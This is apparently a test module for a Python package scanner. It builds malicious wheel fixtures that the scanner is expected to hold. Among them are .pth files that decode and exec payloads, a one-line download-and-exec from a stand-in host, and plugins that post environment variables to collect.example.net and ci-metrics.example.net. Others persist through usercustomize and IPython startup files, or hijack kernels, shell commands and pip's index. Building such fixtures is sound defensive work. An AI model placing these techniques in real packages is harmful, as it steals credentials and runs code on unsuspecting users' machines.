"""What runs without being imported by name."""
from .package import MARK, attack, b64, source


@attack
def pth_backdoor(p):
    """A .pth file, listed correctly in RECORD, that decodes and starts a collector whenever any Python starts
    (model proxy library, March 2026). Must be held: start-up code."""
    code = f"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"{b64(MARK)}\"))'])\n"
    return p.wheel(files={f"{p.module}_init.pth": code.encode()})


@attack
def pth_imports_a_hidden_module(p):
    """A .pth file that only says "import NAME"; the module decodes and executes. Must be held by the module."""
    return p.wheel(files={f"{p.module}_boot.pth": f"import _{p.module}_boot\n".encode(),
                          f"_{p.module}_boot.py": f'import base64\nexec(base64.b64decode("{b64(MARK)}"))\n'.encode()})


@attack(days=30)
def pth_of_a_young_project(p):
    """A .pth file of a project nobody knows, whose module looks harmless today. Must be held: runs without
    being imported."""
    return p.wheel(files={f"{p.module}_auto.pth": f"import {p.module}\n".encode()})


@attack
def pth_fetches(p):
    """A .pth file with a download and exec in one line. Must be held."""
    return p.wheel(files={"distutils_compat.pth": source('''
        import urllib.request; exec(urllib.request.urlopen("https://cdn.example.net/boot.py").read())
        ''')})


@attack
def sitecustomize_sends(p):
    """Brings a sitecustomize.py that sends the environment at each start of Python (MITRE T1546.018). Must be
    held."""
    return p.wheel(files={"sitecustomize.py": '''
        import json, os, urllib.request

        urllib.request.urlopen("https://collect.example.net/e", json.dumps(dict(os.environ)).encode())
        '''})


@attack
def usercustomize_written(p):
    """Writes usercustomize.py into the user's site-packages at import, so that the payload survives its removal.
    Must be held."""
    return p.wheel(init=f'''
        import os, site

        _target = os.path.join(site.getusersitepackages(), "usercustomize.py")
        os.makedirs(os.path.dirname(_target), exist_ok=True)
        with open(_target, "w") as _f:
            _f.write("import base64; exec(base64.b64decode('{b64(MARK)}'))")
        ''')


@attack(days=30)
def pytest_plugin_young(p):
    """Registers itself as a plug-in that every pytest run loads, in a project a month old. Must be held."""
    return p.wheel(files={"{m}/plugin.py": '''
        def pytest_configure(config):
            config.addinivalue_line("markers", "table: tables only")
        '''}, entry_points="[pytest11]\n{m} = {m}.plugin\n")


@attack
def pytest_plugin_steals(p):
    """An old project's pytest plug-in that posts the environment of build machines. Must be held."""
    return p.wheel(files={"{m}/plugin.py": '''
        import os

        import requests


        def pytest_sessionstart(session):
            requests.post("https://ci-metrics.example.net/v1", json=dict(os.environ), timeout=3)
        '''}, entry_points="[pytest11]\n{m} = {m}.plugin\n")


@attack(days=30)
def keyring_backend_young(p):
    """A keyring back end, which runs inside pip with its credentials, in a young project. Must be held."""
    return p.wheel(files={"{m}/ring.py": '''
        class Ring:
            priority = 20

            def get_password(self, service, name):
                return None
        '''}, entry_points="[keyring.backends]\n{m} = {m}.ring\n")


@attack(days=30)
def setuptools_hook_young(p):
    """setuptools loads this entry point whenever it builds anything. Must be held in a young project."""
    return p.wheel(files={"{m}/hook.py": "def finalize(dist):\n    dist.zip_safe = False\n"},
                   entry_points="[setuptools.finalize_distribution_options]\n{m} = {m}.hook:finalize\n")


@attack(days=30)
def jupyter_server_extension(p):
    """Enables its own server extension by a file under .data/data/etc/jupyter. Must be held."""
    path = f"{p.module}-1.0.data/data/etc/jupyter/jupyter_server_config.d/{p.module}.json"
    return p.wheel(files={path: b'{"ServerApp": {"jpserver_extensions": {"%s": true}}}' % p.module.encode()})


@attack(days=30)
def jupyter_kernel_replaced(p):
    """Brings a kernel of the name python3 that starts a shell first. Must be held."""
    path = f"{p.module}-1.0.data/data/share/jupyter/kernels/python3/kernel.json"
    return p.wheel(files={path: b'{"argv": ["sh", "-c", "touch /tmp/customhouse-marker; exec python3 -m '
                                b'ipykernel_launcher -f {connection_file}"], "display_name": "Python 3"}'})


@attack
def ipython_startup_written(p):
    """Writes into IPython's start-up folder at import, so that each session runs it. Must be held."""
    return p.wheel(init=f'''
        import os

        _start = os.path.expanduser("~/.ipython/profile_default/startup/00-tables.py")
        os.makedirs(os.path.dirname(_start), exist_ok=True)
        with open(_start, "w") as _f:
            _f.write('{MARK}')
        ''')


@attack(days=30)
def script_named_ls(p):
    """A console script that shadows a command of the shell. Must be held."""
    return p.wheel(files={"{m}/cli.py": "def main():\n    return 0\n"},
                   entry_points="[console_scripts]\nls = {m}.cli:main\n")


@attack(days=30)
def script_named_python(p):
    """A script named python3 in .data/scripts, first in a virtual environment's PATH. Must be held."""
    return p.wheel(files={f"{p.module}-1.0.data/scripts/python3": b"#!/bin/sh\ntouch /tmp/customhouse-marker\nexec /usr/bin/python3 \"$@\"\n"})


@attack(days=30)
def shadows_a_well_known_package(p):
    """Installs a top-level folder of another, well-known project over the real one. Must be held."""
    return p.wheel(files={"requests/adapters.py": "def send(request):\n    return None\n"})


@attack(days=30)
def shadows_the_standard_library(p):
    """Installs a top-level module of the standard library's name. Must be held."""
    return p.wheel(files={"random.py": "def random():\n    return 0.5\n"})


@attack
def codec_registered_by_pth(p):
    """A .pth registers a codec; the package's source is written in it, so that no reader sees the program.
    Must be held: unknown encoding, or the .pth."""
    return p.wheel(files={f"{p.module}_codec.pth": f"import _{p.module}_codec\n".encode(),
                          f"_{p.module}_codec.py": b"import codecs\ncodecs.register(lambda name: None)\n",
                          "{m}/core.py": b"# -*- coding: tablepack -*-\n" + bytes(range(0x80, 0xb0)) + b"\n"})


GETS = '''
    import urllib.request


    def go():
        return urllib.request.urlopen("https://cdn.example.net/t").read()
'''


@attack
def start_file_entry_point(p):
    """A .start file (PEP 829) names a function of the package that fetches. Must be held."""
    return p.wheel(files={f"{p.module}.start": f"{p.module}.boot:go\n".encode(), "{m}/boot.py": GETS})


@attack(days=30)
def start_file_of_a_young_project(p):
    """A .start file of a project nobody knows, whose function looks harmless today. Must be held."""
    return p.wheel(files={f"{p.module}.start": f"{p.module}.boot:go\n".encode(), "{m}/boot.py": "def go():\n    return 0\n"})


@attack
def pth_calls_a_function(p):
    """A .pth file calls a function of the package, which another module of it has. Must be held."""
    return p.wheel(files={f"{p.module}.pth": f"import {p.module}.a; {p.module}.a.begin()\n".encode(),
                          "{m}/a.py": "from .boot import go\n\n\ndef begin():\n    go()\n", "{m}/boot.py": GETS})


@attack(days=30)
def pip_settings_by_data(p):
    """Brings a pip.conf into the virtual environment: the next install asks another index. Must be held."""
    return p.wheel(files={f"{p.module}-1.0.data/data/pip.conf": b"[global]\nindex-url = https://index.example.net/simple/\n"})


@attack(days=30)
def conda_activation_script(p):
    """Brings a script that conda runs whenever the environment is activated. Must be held."""
    return p.wheel(files={f"{p.module}-1.0.data/data/etc/conda/activate.d/x.sh": b"export PIP_INDEX_URL=https://index.example.net/\n"})


@attack(days=30)
def shell_completion_of_another(p):
    """Brings a completion for git, which every shell reads that completes one. Must be held."""
    return p.wheel(files={f"{p.module}-1.0.data/data/share/bash-completion/completions/git": b"touch /tmp/customhouse-marker\n"})


@attack(days=30)
def jax_plugin_folder(p):
    """Lies in the folder of which JAX imports all. Must be held."""
    return p.wheel(files={"jax_plugins/{m}/__init__.py": "def initialize():\n    return None\n"})
